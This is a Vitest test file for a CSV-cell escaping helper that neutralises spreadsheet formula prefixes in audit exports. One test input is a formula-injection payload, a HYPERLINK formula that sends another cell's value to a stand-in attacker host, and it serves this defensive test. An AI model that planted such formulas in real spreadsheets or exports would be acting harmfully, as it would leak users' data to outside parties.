import { describe, expect, it } from 'vitest';
import { csvCell, csvRow } from './csv.js';

describe('audit CSV cells', () => {
  it('neutralises every formula prefix', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      expect(csvCell(`${start}1+1`).replace(/^"/, '')).toMatch(/^'/);
    }
    expect(csvCell('=HYPERLINK("https://evil.example/?leak="&B2,"Open")')).toBe(
      `"'=HYPERLINK(""https://evil.example/?leak=""&B2,""Open"")"`,
    );
    expect(csvCell('\rcmd')).toBe(`"'\rcmd"`);
  });

  it('leaves other text, numbers and JSON as they were', () => {
    expect(csvCell('curl/8.5')).toBe('curl/8.5');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(null)).toBe('');
    expect(csvCell({ name: '=1+1' })).toBe('"{""name"":""=1+1""}"');
    expect(csvRow(['x', '-2', undefined])).toBe("x,'-2,\r\n");
  });
});
